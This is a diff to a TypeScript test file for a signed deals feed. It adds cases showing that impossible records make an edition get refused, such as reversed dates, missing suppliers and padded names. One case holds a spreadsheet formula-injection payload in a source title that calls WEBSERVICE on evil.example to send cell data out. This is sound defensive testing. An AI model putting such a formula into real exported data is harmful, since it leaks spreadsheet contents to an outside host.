@@ -1,6 +1,8 @@
 import fc from "fast-check";
 import { schemaNumber } from "../../src/core/schemaNumber";
-import type { EditionManifest } from "../../src/feed/editionManifest";
+import type { Records } from "../../src/core/records/edition";
+import { sha256Of } from "../../src/feed/digest";
+import { fileOf, type EditionManifest } from "../../src/feed/editionManifest";
 import { earlierManifest, editionOf, latestManifest, type Feed } from "../../src/feed/feed";
 import { keyIdOf } from "../../src/feed/feedKey";
 import { FeedProblem, type Fault } from "../../src/feed/problems";
@@ -8,7 +10,7 @@ import type { Access } from "../../src/feed/download";
 import { makeKey, publicPartOf } from "../../src/publishing/keys";
 import { signed } from "../../src/publishing/publish";
 import { accessTo, numbered, publishedFeed, serving, type PublishedFeed } from "../support/feed";
-import { aDeal } from "../support/records";
+import { aDeal, aParty, dollars } from "../support/records";
 
 const records = numbered(7, { sources: [], deals: [] });
 let published: PublishedFeed;
@@ -264,6 +266,75 @@ describe("an edition", () => {
     const deals = [aDeal({ id: "a-circle", partOf: "a-circle" })];
     const circular = await publishedFeed(numbered(7, { deals, sources: [source] }), published.privateKey);
     expect(await problemOf(serving(circular))).toContain("a record that cannot be right (a-circle, partOf)");
+  });
+});
+
+describe("an edition that was signed but can't be right", () => {
+  const source = { id: "a-page", publisher: "A", title: "A", type: "news", tier: "news", published: "2025" } as const;
+  const sayingOf = async (given: Partial<Records>): Promise<string> =>
+    problemOf(serving(await publishedFeed(numbered(7, { sources: [source], ...given }), published.privateKey)));
+
+  it.each<[what: string, where: string, given: Partial<Records>]>([
+    [
+      "gives one name to two companies, of which the formulas would know one",
+      "fenwick-labs, aliases",
+      { sources: [], parties: [aParty("Aldermoor Cloud"), aParty("Fenwick Labs", { aliases: ["ALDERMOOR cloud"] })] },
+    ],
+    [
+      "has a contract without a supplier, between whom nothing could be counted",
+      "a-deal, parties",
+      { deals: [aDeal({ id: "a-deal", parties: [{ party: "fenwick-labs", role: "customer" }] })] },
+    ],
+    [
+      "has a term that ends before it begins",
+      "a-deal, start",
+      { deals: [aDeal({ id: "a-deal", start: "2027", end: "2026" })] },
+    ],
+    [
+      "knows what happened after its day",
+      "a-deal, announced",
+      { deals: [aDeal({ id: "a-deal", announced: "2026-07-01" })] },
+    ],
+    [
+      "has a lowest value above the headline",
+      "a-deal, value",
+      { deals: [aDeal({ id: "a-deal", value: dollars(5, { low: 6 }) })] },
+    ],
+    [
+      "has a deal that is replaced by nothing, and would count for ever or never",
+      "a-deal, ended.by",
+      { deals: [aDeal({ id: "a-deal", ended: { how: "superseded", on: "2026" } })] },
+    ],
+    [
+      "has a title that a spreadsheet would calculate",
+      "a-page, title",
+      { sources: [{ ...source, title: '=WEBSERVICE("https://evil.example/?"&A1)' }], deals: [aDeal({ id: "a-deal" })] },
+    ],
+    [
+      "has a name with space around it, which its file would keep and a check would not",
+      "aldermoor-cloud, name",
+      { sources: [], parties: [aParty("Aldermoor Cloud", { name: " Aldermoor Cloud\n" })] },
+    ],
+  ])("since it %s, is not used", async (_, where, given) => {
+    expect(await sayingOf(given)).toBe(
+      `The edition has a record that cannot be right (${where}). It was not used; tell those who run the feed.`,
+    );
+  });
+
+  it("is refused by its first record, however many are wrong", async () => {
+    const text = JSON.stringify({ ...records, deals: Array.from({ length: 30_000 }, () => ({})) });
+    const sha256 = await sha256Of(text);
+    const changed = { sha256, file: fileOf(7, sha256), bytes: text.length };
+    const { signature, ...unsigned } = { ...published.manifest, ...changed };
+    expect(signature).toBeDefined();
+    const latest = JSON.stringify(await signed(unsigned, published.privateKey));
+    const access = accessTo((path) => (path === "/latest.json" ? latest : text));
+    expect(await problemOf(access)).toContain("a record that cannot be right (0, id)");
+  });
+
+  it("is used all the same if it was only researched less well than ours: that is for its publisher to judge", async () => {
+    const judged = aDeal({ id: "a-deal", judgement: { confidence: "medium", why: "So the page says already." } });
+    expect(await sayingOf({ deals: [judged] })).toBe("Nothing is wrong.");
   });
 });
 
